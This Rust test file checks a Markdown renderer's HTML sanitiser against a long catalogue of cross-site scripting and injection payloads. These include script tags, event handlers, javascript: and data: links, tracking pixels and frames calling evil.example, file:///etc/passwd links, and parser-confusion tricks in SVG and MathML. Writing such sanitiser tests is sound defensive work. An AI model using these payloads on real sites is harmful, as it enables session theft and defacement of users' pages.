//! Texts by people who mean harm, a line each with what it tries. Written anew after the ideas of the public lists of filter
//! evasions; every one would reach readers if nothing stood in its way, which is tested too.

use comrak::{Options, markdown_to_html};

use super::allowed::ALLOWED;
use super::judge::faults;
use super::{render, stopped};

const TEXTS: &[(&str, &str)] = &[
    // Scripts.
    ("a script", "<script>steal()</script>"),
    (
        "a script of elsewhere",
        "<script src=https://evil.example/a.js></script>",
    ),
    (
        "a script without a scheme",
        "<script src=//evil.example/a.js></script>",
    ),
    ("a script in capitals", "<SCRIPT>steal()</SCRIPT>"),
    ("a script in mixed case", "<ScRiPt>steal()</sCrIpT>"),
    (
        "a script within a line",
        "good <script>steal()</script> day",
    ),
    ("a script never closed", "<script>steal()"),
    ("a script closed with a space", "<script>steal()</script >"),
    (
        "a script with a slash for a space",
        "<div><script/src=//evil.example/a.js></script></div>",
    ),
    (
        "a script with a line break in its tag",
        "<script\nsrc=//evil.example/a.js\n></script>",
    ),
    (
        "a script with a tab in its tag",
        "<script\tsrc=//evil.example/a.js></script>",
    ),
    ("a script in a list", "- one\n- <script>steal()</script>"),
    ("a script in a quotation", "> <script>steal()</script>"),
    (
        "a script in a table",
        "| a |\n|---|\n| <script>steal()</script> |",
    ),
    ("a script in a heading", "# <script>steal()</script>"),
    (
        "a script in a footnote",
        "x[^1]\n\n[^1]: <script>steal()</script>",
    ),
    ("a script in a task", "- [ ] <script>steal()</script>"),
    ("a script in emphasis", "**<script>steal()</script>**"),
    (
        "a script in the words of a link",
        "[<script>steal()</script>](/a)",
    ),
    (
        "a script in what is struck out",
        "~~<script>steal()</script>~~",
    ),
    (
        "a script as a module",
        "<script type=module>import '//evil.example/a.js'</script>",
    ),
    (
        "a script after a comment",
        "<!-- --><script>steal()</script>",
    ),
    (
        "a script in a comment that ends early",
        "<!--><script>steal()</script>-->",
    ),
    (
        "a script in a comment that ends with a bang",
        "<div><!-- --!><script>steal()</script> --></div>",
    ),
    (
        "a script after a declaration",
        "<!DOCTYPE x>\n<script>steal()</script>",
    ),
    (
        "a script behind a NUL",
        "<div>\0<script>steal()</script></div>",
    ),
    (
        "a script in a template",
        "<template><script>steal()</script></template>",
    ),
    (
        "a script in noscript",
        "<noscript><p title=\"</noscript><script>steal()</script>\"></noscript>",
    ),
    (
        "a script in a title",
        "<title><a title=\"</title><script>steal()</script>\"></title>",
    ),
    (
        "a script in a textarea",
        "<textarea><a title=\"</textarea><script>steal()</script>\"></textarea>",
    ),
    (
        "a script in an option",
        "<select><option><script>steal()</script></option></select>",
    ),
    (
        "a script twice opened",
        "<div><<script>steal();//<</script></div>",
    ),
    (
        "a script that an inner one would hide",
        "<div><scr<script>ipt>steal()</script></div>",
    ),
    (
        "a script with an attribute in quotes",
        "<script x=\">\" src=\"//evil.example/a.js\"></script>",
    ),
    // Handlers.
    ("a picture that fails", "<img src=x onerror=steal()>"),
    (
        "a picture that fails within a line",
        "good <img src=x onerror=\"steal()\"> day",
    ),
    ("a handler in capitals", "<IMG SRC=x ONERROR=steal()>"),
    (
        "a handler after slashes",
        "<div><img/src=x/onerror=steal()></div>",
    ),
    (
        "a handler with spaces at its sign",
        "<img src=x onerror = steal()>",
    ),
    (
        "a handler on its own line",
        "<div><img src=x\nonerror=steal()\n></div>",
    ),
    (
        "a handler in backquotes",
        "<div><img src=x onerror=`steal()`></div>",
    ),
    (
        "a handler in references",
        "<img src=x onerror=\"&#115;teal&lpar;)\">",
    ),
    ("a handler on a paragraph", "<p onclick=steal()>x</p>"),
    (
        "a handler on a link",
        "<a href=/a onmouseover=steal()>x</a>",
    ),
    ("a handler on emphasis", "<b onpointerenter=steal()>x</b>"),
    (
        "a handler on what is focused",
        "<input autofocus onfocus=steal()>",
    ),
    (
        "a handler on what opens",
        "<details open ontoggle=steal()>x</details>",
    ),
    (
        "a handler on what moves",
        "<marquee onstart=steal()>x</marquee>",
    ),
    (
        "a handler on what plays",
        "<video src=/x onloadstart=steal()></video>",
    ),
    (
        "a handler on what sounds",
        "<audio src=x onerror=steal()></audio>",
    ),
    (
        "a handler on what is animated",
        "<p style=animation-name:x onanimationstart=steal()>x</p>",
    ),
    ("a handler on what scrolls", "<ul onscroll=steal()></ul>"),
    ("a handler on what is pasted", "<p onpaste=steal()>x</p>"),
    (
        "a handler nobody has heard of",
        "<div onsomethingnew=steal()>x</div>",
    ),
    (
        "a handler after an unbalanced quote",
        "<div><img \"\"\"><p onclick=steal()>\"></div>",
    ),
    ("a handler on a drawing", "<svg onload=steal()></svg>"),
    ("a handler on a heading", "<h1 onclick=steal()>x</h1>"),
    (
        "a handler on a summary",
        "<summary onclick=steal()>x</summary>",
    ),
    (
        "a handler on an own element",
        "<my-box onclick=steal()>x</my-box>",
    ),
    ("a handler on a label", "<label onclick=steal()>x</label>"),
    // Addresses.
    ("a link that runs", "[x](javascript:steal())"),
    ("a link that runs, in capitals", "[x](JAVASCRIPT:steal())"),
    ("a link that runs, in mixed case", "[x](JaVaScRiPt:steal())"),
    (
        "a link that runs, with a reference",
        "[x](&#106;avascript:steal())",
    ),
    (
        "a link that runs, with a hexadecimal reference",
        "[x](&#x6a;avascript:steal())",
    ),
    (
        "a link that runs, with a named colon",
        "[x](javascript&colon;steal())",
    ),
    (
        "a link that runs, with a tab",
        "<a href=\"java&#9;script:steal()\">x</a>",
    ),
    (
        "a link that runs, with a line break",
        "<a href=\"java&NewLine;script:steal()\">x</a>",
    ),
    (
        "a link that runs, with a return",
        "<a href=\"java&#13;script:steal()\">x</a>",
    ),
    (
        "a link that runs, behind a control character",
        "<a href=\"\u{1}javascript:steal()\">x</a>",
    ),
    (
        "a link that runs, behind an escape",
        "<a href=\"&#27;javascript:steal()\">x</a>",
    ),
    (
        "a link that runs, behind spaces",
        "<a href=\"   javascript:steal()\">x</a>",
    ),
    ("a link that runs, in brackets", "[x](<javascript:steal()>)"),
    (
        "a link that runs, by reference",
        "[x]\n\n[x]: javascript:steal()",
    ),
    (
        "a link that runs, by a full reference",
        "[x][y]\n\n[y]: javascript:steal()",
    ),
    ("a link that runs, as an address", "<javascript:steal()>"),
    (
        "a link that runs, with a comment",
        "[x](javascript://evil.example/%0asteal())",
    ),
    (
        "a link that runs, with a title",
        "[x](javascript:steal() \"x\")",
    ),
    (
        "a link that runs, in HTML",
        "<a href=javascript:steal()>x</a>",
    ),
    (
        "a link that runs, with a picture in it",
        "[![x](/images/x.jpg)](javascript:steal())",
    ),
    ("a link that runs Basic", "[x](vbscript:steal())"),
    (
        "a link to a page in itself",
        "[x](data:text/html,<script>steal()</script>)",
    ),
    (
        "a link to a coded page in itself",
        "[x](data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+)",
    ),
    (
        "a link to a drawing in itself",
        "[x](data:image/svg+xml,<svg/onload=steal()>)",
    ),
    ("a link to this computer", "[x](file:///etc/passwd)"),
    (
        "a link to what lies in memory",
        "[x](blob:https://blog.example/1)",
    ),
    (
        "a link to a page's source",
        "[x](view-source:https://evil.example)",
    ),
    (
        "a link that opens a program",
        "[x](intent://evil#Intent;scheme=x;end)",
    ),
    ("a link that streams", "[x](livescript:steal())"),
    ("a link with a scheme nobody knows", "[x](evil:steal)"),
    ("a picture that runs", "![x](javascript:steal())"),
    (
        "a picture in itself",
        "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    ),
    (
        "a picture of elsewhere, which tells who reads",
        "![x](https://evil.example/pixel.gif)",
    ),
    (
        "a picture of elsewhere without a scheme",
        "![x](//evil.example/pixel.gif)",
    ),
    (
        "a picture of elsewhere, by reference",
        "![x]\n\n[x]: https://evil.example/pixel.gif",
    ),
    (
        "a picture of elsewhere in a set",
        "<img src=/images/x srcset=\"//evil.example/p 1x\">",
    ),
    ("a picture that climbs out", "![x](/static/../logout)"),
    ("a ping", "<a href=/a ping=//evil.example>x</a>"),
    (
        "a background of elsewhere",
        "<table background=//evil.example/p><tr><td>x</td></tr></table>",
    ),
    (
        "a poster of elsewhere",
        "<video poster=//evil.example/p></video>",
    ),
    // Pages in the page, and what changes the page around.
    ("a frame", "<iframe src=https://evil.example></iframe>"),
    (
        "a frame with its own page",
        "<iframe srcdoc=\"<script>steal()</script>\"></iframe>",
    ),
    ("an object", "<object data=//evil.example/x.swf></object>"),
    ("an embedded thing", "<embed src=//evil.example/x.swf>"),
    ("an applet", "<applet code=Evil></applet>"),
    ("a portal", "<portal src=//evil.example></portal>"),
    ("a base for all links", "<base href=//evil.example>"),
    (
        "a refresh",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    ),
    (
        "another policy",
        "<meta http-equiv=content-security-policy content=\"script-src *\">",
    ),
    (
        "another style sheet",
        "<link rel=stylesheet href=//evil.example/a.css>",
    ),
    ("styles", "<style>body { display: none }</style>"),
    (
        "styles of elsewhere",
        "<style>@import '//evil.example/a.css';</style>",
    ),
    (
        "a style on an element",
        "<p style=\"position:fixed;inset:0\">x</p>",
    ),
    (
        "a style with an address",
        "<p style=\"background:url(//evil.example)\">x</p>",
    ),
    ("a class of the page", "<p class=\"masthead\">x</p>"),
    ("an id of the page", "<p id=main>x</p>"),
    (
        "a name that hides the document's own",
        "<img name=getElementById>",
    ),
    (
        "a form",
        "<form action=/logout method=post><button>Win!</button></form>",
    ),
    (
        "a field that belongs to another form",
        "<input name=login form=login>",
    ),
    (
        "a button with its own target",
        "<button formaction=javascript:steal()>x</button>",
    ),
    (
        "a hidden field",
        "<input type=hidden name=role value=owner>",
    ),
    ("a password field", "<input type=password name=password>"),
    (
        "an end of the page",
        "</div></main></body>\n<footer>x</footer>",
    ),
    (
        "a shadow",
        "<div><template shadowrootmode=open><script>steal()</script></template></div>",
    ),
    ("a slot", "<slot onslotchange=steal()></slot>"),
    ("a dialog", "<dialog open>x</dialog>"),
    ("a popover", "<div popover id=main>x</div>"),
    ("what can be edited", "<p contenteditable>x</p>"),
    // Where parsers disagree.
    (
        "a drawing with a script",
        "<svg><script>steal()</script></svg>",
    ),
    (
        "a drawing with a link",
        "<svg><a xlink:href=javascript:steal()><text>x</text></a></svg>",
    ),
    (
        "a drawing that animates a link",
        "<svg><a><animate attributeName=href values=javascript:steal() /></a></svg>",
    ),
    (
        "a drawing that sets a handler",
        "<svg><set attributeName=onclick to=steal() /></svg>",
    ),
    (
        "a drawing with a page in it",
        "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
    ),
    (
        "a drawing with styles that end early",
        "<svg><style><a title=\"</style><img src=x onerror=steal()>\"></style></svg>",
    ),
    (
        "a drawing used from elsewhere",
        "<svg><use href=//evil.example/a.svg#x /></svg>",
    ),
    (
        "a formula with a script",
        "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>",
    ),
    (
        "a formula with a link",
        "<math href=javascript:steal()>x</math>",
    ),
    (
        "a formula with an annotation",
        "<math><annotation-xml encoding=text/html><script>steal()</script></annotation-xml></math>",
    ),
    ("character data", "<![CDATA[<script>steal()</script>]]>"),
    ("a processing instruction", "<?php steal() ?>"),
    ("a declaration", "<!ENTITY x SYSTEM \"file:///etc/passwd\">"),
    ("a plain text that never ends", "<plaintext>"),
    (
        "an old listing",
        "<xmp><p title=\"</xmp><script>steal()</script>\"></xmp>",
    ),
    (
        "a table that throws its content out",
        "<table><script>steal()</script><tr><td></table>",
    ),
    (
        "a form within a form",
        "<form><div></form><form><input name=password></form></div>",
    ),
    (
        "an attribute twice",
        "<a href=/a href=javascript:steal() onclick=steal()>x</a>",
    ),
    (
        "an attribute without a space before it",
        "<div><a href=\"/a\"onclick=steal()>x</a></div>",
    ),
    ("a tag never closed", "<div><p onclick=steal()>x<p title=\""),
    ("a tag in a tag", "<div <script>steal()</script>>"),
    ("a comment left open", "<div><!-- <p>\n</div>"),
    ("a comment in the text", "one <!-- secret --> two"),
    (
        "an entity that becomes a quote",
        "<a title=\"&quot; onclick=steal()\" onclick=\"steal()\">x</a>",
    ),
    (
        "tags in full width and in ASCII",
        "＜script＞steal()＜/script＞<script>steal()</script>",
    ),
];

/// What readers would get if nothing stood in the way.
fn unguarded(text: &str) -> String {
    let mut options = Options::default();
    options.extension.strikethrough = true;
    options.extension.table = true;
    options.extension.autolink = true;
    options.extension.tasklist = true;
    options.extension.footnotes = true;
    options.render.r#unsafe = true;
    markdown_to_html(text, &options)
}

/// The texts that become something the judge does not have expected.
fn all_but(expected: bool, html: impl Fn(&str) -> String) -> Vec<String> {
    let wrong = TEXTS.iter().filter_map(|(what, text)| {
        let html = html(text);
        let faults = faults(&html);
        (faults.is_empty() != expected)
            .then(|| format!("{what}: {text:?} gave {html:?} {faults:?}"))
    });
    wrong.collect()
}

#[test]
fn nothing_hostile_reaches_a_reader() {
    assert!(TEXTS.len() >= 100);
    let wrong = all_but(true, |text| render(text, &[], false, stopped).html);
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_hostile_text_is_one_and_the_judge_sees_it() {
    let wrong = all_but(false, unguarded);
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn the_second_wall_stands_alone() {
    let wrong = all_but(true, |text| ALLOWED.clean(&unguarded(text)).to_string());
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn the_judge_has_nothing_against_an_ordinary_text() {
    let text = include_str!("../demo/posts/sort-my-photographs.md");
    let more = "# A\n\n- [x] b\n\n| a | b |\n|:-:|--:|\n| `c` | ~~d~~ |\n\nx[^n] https://example.org\n\n[^n]: y\n\n3. z";
    for text in [text, more] {
        let html = render(text, &[], false, stopped).html;
        assert_eq!(faults(&html), Vec::<String>::new(), "{html}");
        assert!(html.contains("<p") || html.contains("<h2"), "{html}");
    }
}
